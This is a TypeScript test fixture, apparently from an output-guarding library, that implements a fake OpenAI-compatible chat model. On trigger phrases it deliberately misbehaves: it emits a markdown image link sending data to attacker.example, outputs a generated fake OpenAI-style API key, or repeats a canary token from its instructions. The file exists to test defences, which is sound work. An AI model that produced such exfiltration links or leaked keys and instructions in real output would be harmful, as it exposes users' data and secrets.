/**
 * A fake OpenAI-compatible chat model for the examples and tests: no
 * network, deterministic. It echoes the last user message, streams when
 * asked (`stream: true`), and misbehaves on request so output guarding has
 * something to do:
 *
 * - "draw a chart": answers with a markdown image pointing at an attacker's host;
 * - "repeat the key": answers with a (fake, generated) API key;
 * - "say the canary": answers with whatever canary token it was told.
 */

/** A fake model answer, as chunks to write in order. */
export interface FakeReply {
  readonly status: number;
  readonly contentType: string;
  readonly chunks: readonly string[];
}

const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';

/** A random string of `length` base-62 characters (fake credentials are generated, never stored). */
export function randomToken(length: number): string {
  const bytes = crypto.getRandomValues(new Uint8Array(length));
  let out = '';
  for (const byte of bytes) out += ALPHABET[byte % ALPHABET.length];
  return out;
}

/** The fake secret the model "leaks": an OpenAI project key shape, made up at start-up. */
export const LEAKED_KEY = `sk-proj-${randomToken(48)}T3BlbkFJ${randomToken(48)}`;

function isRecord(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

function lastUserText(body: Record<string, unknown>): string {
  const messages = Array.isArray(body['messages']) ? body['messages'] : [];
  for (let i = messages.length - 1; i >= 0; i--) {
    const m = messages[i];
    if (!isRecord(m) || m['role'] !== 'user') continue;
    if (typeof m['content'] === 'string') return m['content'];
    if (Array.isArray(m['content'])) {
      return m['content']
        .map((p) => (isRecord(p) && typeof p['text'] === 'string' ? p['text'] : ''))
        .join('');
    }
  }
  return '';
}

/** Splits `text` into chunks of `size` characters (to exercise cross-chunk guarding). */
export function split(text: string, size: number): string[] {
  const out: string[] = [];
  for (let i = 0; i < text.length; i += size) out.push(text.slice(i, i + size));
  return out;
}

/** Answers a chat-completions request body. */
export function fakeModel(body: unknown, options: { readonly canary?: string } = {}): FakeReply {
  if (!isRecord(body) || !Array.isArray(body['messages'])) {
    return {
      status: 400,
      contentType: 'application/json; charset=utf-8',
      chunks: [
        JSON.stringify({
          error: {
            message: 'messages is required',
            type: 'invalid_request_error',
            code: null,
            param: 'messages',
          },
        }),
      ],
    };
  }
  const said = lastUserText(body);
  let answer = `You said: ${said}`;
  if (said.includes('draw a chart'))
    answer = 'Here is your chart: ![chart](https://attacker.example/collect?d=Q3_revenue) Done.';
  if (said.includes('repeat the key')) answer = `The key is ${LEAKED_KEY} and that is all.`;
  if (said.includes('say the canary') && options.canary !== undefined)
    answer = `My instructions say ${options.canary}.`;
  const usage = {
    prompt_tokens: Math.ceil(said.length / 4),
    completion_tokens: Math.ceil(answer.length / 4),
    total_tokens: 0,
  };
  usage.total_tokens = usage.prompt_tokens + usage.completion_tokens;
  const base = { id: 'chatcmpl-fake', created: 1_764_400_000, model: 'fake-model' };
  if (body['stream'] === true) {
    const chunks = split(answer, 7).map(
      (piece) =>
        `data: ${JSON.stringify({ ...base, object: 'chat.completion.chunk', choices: [{ index: 0, delta: { content: piece }, finish_reason: null }] })}\n\n`,
    );
    chunks.push(
      `data: ${JSON.stringify({ ...base, object: 'chat.completion.chunk', choices: [{ index: 0, delta: {}, finish_reason: 'stop' }], usage })}\n\n`,
      'data: [DONE]\n\n',
    );
    return { status: 200, contentType: 'text/event-stream; charset=utf-8', chunks };
  }
  return {
    status: 200,
    contentType: 'application/json; charset=utf-8',
    chunks: [
      JSON.stringify({
        ...base,
        object: 'chat.completion',
        choices: [
          { index: 0, message: { role: 'assistant', content: answer }, finish_reason: 'stop' },
        ],
        usage,
      }),
    ],
  };
}
